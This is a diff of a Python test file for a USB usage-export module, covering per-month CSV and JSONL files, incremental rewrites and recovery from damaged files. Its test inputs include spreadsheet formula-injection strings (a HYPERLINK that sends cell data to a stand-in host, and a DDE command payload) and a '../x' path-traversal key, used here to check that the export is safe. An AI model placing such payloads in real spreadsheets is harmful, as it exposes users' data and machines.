@@ -8,7 +8,7 @@ import sqlite3
 import pytest
 
 from server.usage import SCHEMA
-from usb_updater.export import export_usage
+from usb_updater.export import CSV_COLUMNS, export_usage
 
 
 def store(library, rows):
@@ -22,7 +22,17 @@ def store(library, rows):
 
 
 def exported(library, stick, name):
-    path = stick / "sanduq" / "exports" / library.device_id / name
+    """A file of the export; "usage.csv" or "usage.jsonl": every month's, oldest first, as one
+    (one heading row), undated last."""
+    folder = stick / "sanduq" / "exports" / library.device_id
+    if name in ("usage.csv", "usage.jsonl"):
+        stem, ext = name.split(".")
+        months = sorted(folder.glob(f"{stem}-*.{ext}"), key=lambda p: ("undated" in p.name, p.name))
+        parts = [exported(library, stick, p.name) for p in months]
+        if ext == "jsonl":
+            return [line for part in parts for line in part]
+        return [list(CSV_COLUMNS)] + [row for part in parts for row in part[1:]]
+    path = folder / name
     if name.endswith(".jsonl"):
         return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
     return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
@@ -52,10 +62,13 @@ def test_any_row_in_usage_db_is_exported_or_skipped_never_a_crash(filled, tmp_pa
         (event(6)[0], "2026-03-01", "search-empty", None, None, None, None),
     ])
     written = export_usage(filled, tmp_path / "stick")
-    assert [w["events"] for w in written] == [5, 5, 1]  # the unknown type is not Sanduq's: skipped
+    # The unknown type is not Sanduq's: skipped. A time that is no date goes to usage-undated.
+    assert [(w["file"].rsplit("/", 1)[1], w["events"]) for w in written] == [
+        ("usage-2026-03.csv", 4), ("usage-2026-03.jsonl", 4), ("usage-undated.csv", 1), ("usage-undated.jsonl", 1),
+        ("summary.csv", 1)]
     rows = exported(filled, tmp_path / "stick", "usage.csv")
-    assert [r[3] for r in rows[1:]] == ["opened", "progress", "progress", "finished", "search-empty"]
-    assert [r[7] for r in rows[1:]] == ["", "0.5", "", "", ""]  # text, infinity: an empty cell
+    assert [r[3] for r in rows[1:]] == ["progress", "progress", "finished", "search-empty", "opened"]
+    assert [r[7] for r in rows[1:]] == ["0.5", "", "", "", ""]  # text, infinity: an empty cell
     statements = exported(filled, tmp_path / "stick", "usage.jsonl")
     assert len({s["id"] for s in statements}) == 5
     assert exported(filled, tmp_path / "stick", "summary.csv")[1][1:2] == ["42"]
@@ -64,12 +77,14 @@ def test_any_row_in_usage_db_is_exported_or_skipped_never_a_crash(filled, tmp_pa
 def test_rows_go_out_in_the_order_they_were_recorded_not_by_the_clock(filled, tmp_path):
     # The box's clock jumped back (no RTC, no network): recording order is the truth.
     times = ["2026-03-01T10:00:00Z", "2024-01-01T00:00:00Z", "2026-03-01T09:00:00Z", "2025-06-01T00:00:00Z"]
-    store(filled, [event(n, time=t, item=i) for n, (t, i) in
-                   enumerate(zip(times, ["tip-sleep", "book-cat", "video-count", "doc-plan"]))])
+    times.insert(1, "2026-03-01T08:00:00Z")
+    store(filled, [event(n, time=t, item="tip-sleep") for n, t in enumerate(times)])
     export_usage(filled, tmp_path / "stick")
-    rows = exported(filled, tmp_path / "stick", "usage.csv")
-    assert [r[2] for r in rows[1:]] == times
-    assert [s["timestamp"] for s in exported(filled, tmp_path / "stick", "usage.jsonl")] == times
+    rows = exported(filled, tmp_path / "stick", "usage-2026-03.csv")
+    assert [r[2] for r in rows[1:]] == [t for t in times if t.startswith("2026-03")]  # 10:00, 08:00, 09:00
+    assert [s["timestamp"] for s in exported(filled, tmp_path / "stick", "usage-2026-03.jsonl")] == \
+        [t for t in times if t.startswith("2026-03")]
+    assert [r[2] for r in exported(filled, tmp_path / "stick", "usage.csv")[1:]] == sorted(times, key=lambda t: t[:7])
 
 
 @pytest.mark.parametrize("text", ['=HYPERLINK("http://x/"&A2,"x")', "@SUM(A1:A9)", "+x", "-x", "=cmd|' /C calc'!A0",
@@ -104,10 +119,11 @@ def test_a_damaged_store_leaves_the_sticks_files_whole(filled, tmp_path):
     assert not list((tmp_path / "stick" / "sanduq" / "exports" / filled.device_id).glob(".*.tmp"))
 
 
-def test_no_usage_yet_gives_files_with_their_headings(filled, tmp_path):
+def test_no_usage_yet_gives_a_summary_with_its_headings_and_no_month(filled, tmp_path):
     written = export_usage(filled, tmp_path / "stick")
-    assert [w["events"] for w in written] == [0, 0, 0]
-    assert exported(filled, tmp_path / "stick", "usage.csv")[0][0] == "event_id"
+    assert [w["events"] for w in written] == [0]
+    assert exported(filled, tmp_path / "stick", "summary.csv")[0][:2] == ["device", "item"]
+    assert exported(filled, tmp_path / "stick", "usage.csv") == [list(CSV_COLUMNS)]
     assert not (filled.data_dir / "usage.db").exists()  # an export creates nothing on the box
 
 
@@ -125,3 +141,89 @@ def test_a_damaged_catalog_costs_titles_never_the_usage(filled, tmp_path):
     assert [w["events"] for w in written][:2] == [2, 2]
     rows = exported(filled, tmp_path / "stick", "usage.csv")
     assert [r[4] for r in rows[1:]] == ["tip-sleep", "book-cat"] and [r[5] for r in rows[1:]] == ["", ""]
+
+
+def months_of(n: int, first=(2024, 1)) -> list[tuple]:
+    """N months of events, ten a month, from FIRST on."""
+    year, month = first
+    rows = []
+    for m in range(n):
+        y, mo = year + (month - 1 + m) // 12, (month - 1 + m) % 12 + 1
+        rows += [event(m * 10 + k, time=f"{y}-{mo:02d}-1{k % 9}T08:00:00.000000Z") for k in range(10)]
+    return rows
+
+
+def add(library, rows):
+    conn = sqlite3.connect(library.data_dir / "usage.db")
+    with conn:
+        conn.executemany("INSERT INTO events VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
+    conn.close()
+
+
+def stamps(folder):
+    return {p.name: (p.stat().st_ino, p.stat().st_mtime_ns) for p in folder.glob("usage-*")}
+
+
+def test_an_insert_writes_only_the_months_that_changed(filled, tmp_path):
+    store(filled, months_of(36))  # three years
+    stick = tmp_path / "stick"
+    first = export_usage(filled, stick)
+    assert len(first) == 36 * 2 + 1 and first[0]["file"].endswith("usage-2026-12.csv")  # newest first
+    folder = stick / "sanduq" / "exports" / filled.device_id
+    before = stamps(folder)
+    assert [w["file"].rsplit("/", 1)[1] for w in export_usage(filled, stick)] == ["summary.csv"]  # nothing new
+    add(filled, [event(9000 + k, time="2026-12-31T20:00:00.000000Z") for k in range(3)] +
+        [event(9100, time="2027-01-01T00:01:00.000000Z")])
+    again = export_usage(filled, stick)
+    assert [(w["file"].rsplit("/", 1)[1], w["events"]) for w in again] == [
+        ("usage-2027-01.csv", 1), ("usage-2027-01.jsonl", 1), ("usage-2026-12.csv", 13), ("usage-2026-12.jsonl", 13),
+        ("summary.csv", 1)]
+    after = stamps(folder)
+    assert {name for name in before if after[name] != before[name]} == {"usage-2026-12.csv", "usage-2026-12.jsonl"}
+    assert len(exported(filled, stick, "usage.csv")) == 1 + 36 * 10 + 4  # the whole history, once
+
+
+@pytest.mark.parametrize("spoil", [
+    lambda f: (f / "usage-2025-05.csv").unlink(),                      # a month's file deleted
+    lambda f: (f / "usage-2025-05.jsonl").write_text("{}\n"),            # or changed
+    lambda f: (f / "months.json").write_text("[1, 2"),                   # the index junk
+    lambda f: (f / "months.json").write_text('{"2025-05": "x", "../x": {}, "2099-99": {}}'),
+])
+def test_a_month_the_stick_lost_or_that_was_changed_is_written_again(filled, tmp_path, spoil):
+    store(filled, months_of(24))
+    stick = tmp_path / "stick"
+    export_usage(filled, stick)
+    folder = stick / "sanduq" / "exports" / filled.device_id
+    whole = {p.name: p.read_bytes() for p in folder.glob("usage-*")}
+    spoil(folder)
+    rewritten = {w["file"].rsplit("/", 1)[1] for w in export_usage(filled, stick)} - {"summary.csv"}
+    assert "usage-2025-05.csv" in rewritten and {p.name: p.read_bytes() for p in folder.glob("usage-*")} == whole
+    assert not (folder / "../x").exists() and not list(folder.glob("*2099*"))
+
+
+def test_the_old_whole_history_files_give_way_to_the_months(filled, tmp_path):
+    folder = tmp_path / "stick" / "sanduq" / "exports" / filled.device_id
+    folder.mkdir(parents=True)
+    (folder / "usage.csv").write_text("event_id\n")  # as a box wrote it before
+    (folder / "usage.jsonl").write_text("")
+    store(filled, months_of(2))
+    export_usage(filled, tmp_path / "stick")
+    assert sorted(p.name for p in folder.iterdir()) == ["months.json", "summary.csv", "usage-2024-01.csv",
+                                                        "usage-2024-01.jsonl", "usage-2024-02.csv", "usage-2024-02.jsonl"]
+
+
+def test_the_box_indexes_its_events_by_month_for_the_export():
+    import tempfile
+    from pathlib import Path
+
+    from server.usage import UsageLog
+
+    with tempfile.TemporaryDirectory() as tmp:
+        log = UsageLog(Path(tmp) / "usage.db", 0.01)
+        log.close()
+        conn = sqlite3.connect(Path(tmp) / "usage.db")
+        plan = " ".join(r[3] for r in conn.execute(
+            "EXPLAIN QUERY PLAN SELECT substr(time, 1, 7), count(*), max(rowid) FROM events "
+            "WHERE type IN ('opened', 'finished') GROUP BY 1"))
+        conn.close()
+    assert "USING INDEX events_month" in plan or "COVERING INDEX events_month" in plan
